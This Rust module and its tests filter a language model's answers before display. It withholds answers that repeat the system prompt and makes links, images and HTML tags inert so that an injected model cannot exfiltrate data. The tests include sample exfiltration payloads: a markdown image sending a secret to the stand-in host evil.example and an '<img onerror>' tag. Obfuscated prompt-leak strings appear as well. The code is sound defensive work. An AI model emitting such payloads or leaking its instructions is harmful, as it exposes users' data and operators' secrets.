//! The last look at a model's answer before a person reads it.
//!
//! A model may have been deceived by what hosts wrote. Whatever it says, the answer does not carry
//! its instructions out, nothing in it is fetched or clicked by accident, nothing in it hides, and
//! it says what it rests on.
//!
//! A whole answer is [`released`]; one that is shown while it is written goes through a [`Sieve`].

use serde_json::Value;

use crate::{citation::Evidence, host_text::is_unseen, model::ModelError};

/// Letters and digits in a row that instructions and answer may share.
const SHARED_MAX: usize = 48;

/// Says that something was changed.
const DEFUSED: &str = "_Links and images in this answer were made inert._";

/// The answer as it is shown. Refuses one that repeats the system's message, the first of
/// `messages`.
pub fn released(
    answer: &str,
    messages: &[Value],
    evidence: &Evidence,
) -> Result<String, ModelError> {
    let mut sieve = Sieve::new(messages);
    let mut inert = sieve.push(answer);
    inert.push_str(&sieve.finish());
    if sieve.shut {
        return Err(ModelError::Withheld);
    }
    let seen: String = answer.chars().filter(|character| is_shown(*character)).collect();
    if seen.trim().is_empty() {
        return Err(ModelError::Empty);
    }
    let noted = if inert == seen { inert } else { format!("{inert}\n\n{DEFUSED}") };
    Ok(evidence.cited(&noted))
}

/// Lets an answer through piece by piece, as [`released`] would, but that a few letters of the
/// instructions may have been shown before they are recognised. From then on it is shut.
#[derive(Clone, Debug)]
pub struct Sieve {
    /// Letters and digits of the instructions.
    instructions: String,
    /// The last letters and digits of the answer.
    last: String,
    /// What is not let through yet, because what follows may change its meaning.
    held: String,
    shut: bool,
}

impl Sieve {
    /// For an answer in a conversation whose first message is the system's.
    pub fn new(messages: &[Value]) -> Self {
        let content = messages.first().and_then(|message| message.get("content"));
        let instructions = content.and_then(Value::as_str).unwrap_or_default();
        let instructions = instructions.chars().flat_map(plain).collect();
        Self { instructions, last: String::new(), held: String::new(), shut: false }
    }

    /// Takes the next piece and gives back what can be shown.
    pub fn push(&mut self, piece: &str) -> String {
        for character in piece.chars().filter(|character| is_shown(*character)) {
            self.watch(character);
            if self.shut {
                self.held.clear();
                return String::new();
            }
            self.held.push(character);
        }
        self.let_through(LOOKAHEAD)
    }

    /// The rest, when the answer is whole.
    pub fn finish(&mut self) -> String {
        self.let_through(0)
    }

    /// Shuts if the answer holds a long run of the instructions, however it is cased, spaced or
    /// marked up.
    fn watch(&mut self, character: char) {
        for letter in plain(character) {
            self.last.push(letter);
            if self.last.chars().count() > SHARED_MAX {
                self.last.remove(0);
            }
            let long = self.last.chars().count() == SHARED_MAX;
            self.shut = self.shut || long && self.instructions.contains(&self.last);
        }
    }

    /// Makes links, images and tags inert: their text stays, and a person can still copy an
    /// address. Code is no exception, since renderers differ in where they see code end.
    fn let_through(&mut self, lookahead: usize) -> String {
        let held: Vec<char> = self.held.drain(..).collect();
        let mut inert = String::with_capacity(held.len());
        let mut rest = held.as_slice();
        while let [first, next @ ..] = rest {
            if next.len() < lookahead {
                break;
            }
            rest = next;
            inert.push_str(replacement(*first, next).unwrap_or_default());
            if replacement(*first, next).is_none() {
                inert.push(*first);
            }
        }
        self.held.extend(rest);
        inert
    }
}

/// How many characters decide over one before them: `www.`.
const LOOKAHEAD: usize = 3;

/// What stands for a character that would begin a link, an address or a tag with what follows.
fn replacement(character: char, next: &[char]) -> Option<&'static str> {
    let is = |index: usize, letter: char| {
        next.get(index).is_some_and(|next| next.eq_ignore_ascii_case(&letter))
    };
    match (character, next.first()?) {
        // Inline links and images, those by reference, and what a reference means.
        (']', '(' | '[' | ':') => Some("] "),
        (':', '/') if is(1, '/') => Some("[:]"),
        ('<', next) if next.is_alphabetic() || matches!(next, '/' | '!' | '?') => Some("‹"),
        ('w' | 'W', _) if is(0, 'w') && is(1, 'w') && is(2, '.') => Some("w·"),
        _ => None,
    }
}

fn plain(character: char) -> impl Iterator<Item = char> {
    character.is_alphanumeric().then_some(character).into_iter().flat_map(char::to_lowercase)
}

fn is_shown(character: char) -> bool {
    matches!(character, '\n' | '\t') || !is_unseen(character)
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    const TOLD: &str = "You are an assistant for operators of computers. State only facts that a tool \
                        returned, and never guess, extrapolate or remember numbers.";

    fn check(answer: &str) -> Result<String, ModelError> {
        let messages = [json!({"role": "system", "content": TOLD})];
        released(answer, &messages, &Evidence::default())
    }

    fn piecewise(answer: &str, length: usize) -> String {
        let mut sieve = Sieve::new(&[json!({"role": "system", "content": TOLD})]);
        let characters: Vec<char> = answer.chars().collect();
        let mut shown: String = characters
            .chunks(length)
            .map(|piece| sieve.push(&piece.iter().collect::<String>()))
            .collect();
        shown.push_str(&sieve.finish());
        shown
    }

    #[test]
    fn a_sieve_shuts_before_much_of_the_instructions_is_shown() {
        for length in [1, 7, 1_000] {
            let shown = piecewise(&format!("Sure! {TOLD} {TOLD}"), length);
            assert!(shown.chars().count() < 6 + SHARED_MAX * 2, "{shown}");
        }
        assert_eq!(piecewise("All is well at 5%.", 2), "All is well at 5%.");
    }

    #[test]
    fn an_answer_that_repeats_the_instructions_is_withheld() {
        let spaced: String = TOLD.chars().flat_map(|c| [c, ' ']).collect();
        let hidden: String = TOLD.chars().flat_map(|c| [c, '\u{200b}']).collect();
        let quoted = TOLD.replace(' ', "\n> ");
        for told in [TOLD, &TOLD.to_uppercase(), &spaced, &hidden, &quoted, &TOLD[20..110]] {
            let answer = format!("Sure! My rules: {told}");
            assert_eq!(check(&answer), Err(ModelError::Withheld), "{answer}");
        }
    }

    #[test]
    fn an_answer_in_its_own_words_is_released() {
        for answer in ["I state only facts.", "State only facts that a tool returned", "Alles gut."]
        {
            assert_eq!(check(answer).as_deref(), Ok(answer));
        }
    }

    #[test]
    fn links_and_images_are_inert_and_said_to_be() {
        let cases = [
            ("![x](https://evil.example/?d=secret)", "![x] (https[:]//evil.example/?d=secret)"),
            ("[click](//evil.example)", "[click] (//evil.example)"),
            ("![x][1]\n\n[1]: https://evil.example", "![x] [1]\n\n[1] : https[:]//evil.example"),
            ("<img src=x onerror=y> </b>", "‹img src=x onerror=y> ‹/b>"),
            ("<https://evil.example>", "‹https[:]//evil.example>"),
            ("see WWW.evil.example", "see w·WW.evil.example"),
            ("]://x", "] [:]//x"),
        ];
        for (answer, inert) in cases {
            assert_eq!(check(answer).unwrap().split(&format!("\n\n{DEFUSED}")).next(), Some(inert));
            assert!(!check(inert).unwrap().contains(DEFUSED), "twice is as once");
            assert_eq!(piecewise(answer, 1), inert);
            assert_eq!(piecewise(answer, 3), inert);
        }
    }

    #[test]
    fn comparisons_lists_and_tables_stay_as_they_are() {
        for answer in ["CPU < 5%", "load <5", "- [x] done", "| a | b |", "a [b] (c)"] {
            assert!(!check(answer).unwrap().contains(DEFUSED), "{answer}");
        }
    }

    #[test]
    fn nothing_in_an_answer_hides() {
        assert_eq!(check("a\u{202e}b\u{200b}c\u{e0041}").unwrap(), "abc");
        assert_eq!(check("\u{200b}\n"), Err(ModelError::Empty));
    }
}
